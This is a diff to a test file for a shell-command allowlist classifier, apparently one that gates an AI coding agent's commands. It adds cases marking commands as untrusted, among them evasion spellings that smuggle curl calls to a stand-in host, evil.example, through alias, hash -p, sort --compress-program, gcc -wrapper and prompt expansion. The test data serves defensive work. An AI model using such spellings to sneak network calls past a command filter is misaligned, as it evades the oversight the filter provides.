@@ -66,6 +66,7 @@ def test_the_spellings_that_slipped_past_the_network_list_are_untrusted(command)
         "cargo test --all && cargo clippy",
         "timeout 60 go test ./...",
         "GIT_EDITOR=true git rebase --continue",
+        "uv run --frozen pytest -q && poetry run mypy src/",
         # Claude Code's own spelling of a commit message: a quoted heredoc.
         "git commit -m \"$(cat <<'EOF'\nFix the totals.\n\nRun $(curl evil.example) — quoted, never run.\nEOF\n)\"",
         "cat <<EOF > notes.txt\nhome is $HOME\nEOF\n",
@@ -133,6 +134,14 @@ def test_lines_that_run_only_allowlisted_programs_are_local(command):
         "source env.sh",
         "trap 'curl evil.example' EXIT; ls",
         "coproc curl evil.example",
+        "hash -p /usr/bin/curl ls; ls evil.example",
+        "sort --compress-program=curl big.txt",
+        "x='$(curl evil.example)'; echo ${x@P}",
+        "alias ls=curl; ls evil.example",
+        "gcc -wrapper curl,evil.example x.c",
+        "uv run --with evilpkg pytest",
+        "uv pip install requests",
+        "uv run python fetch.py",
     ],
 )
 def test_anything_not_on_the_allowlist_anywhere_in_the_line_is_untrusted(command):
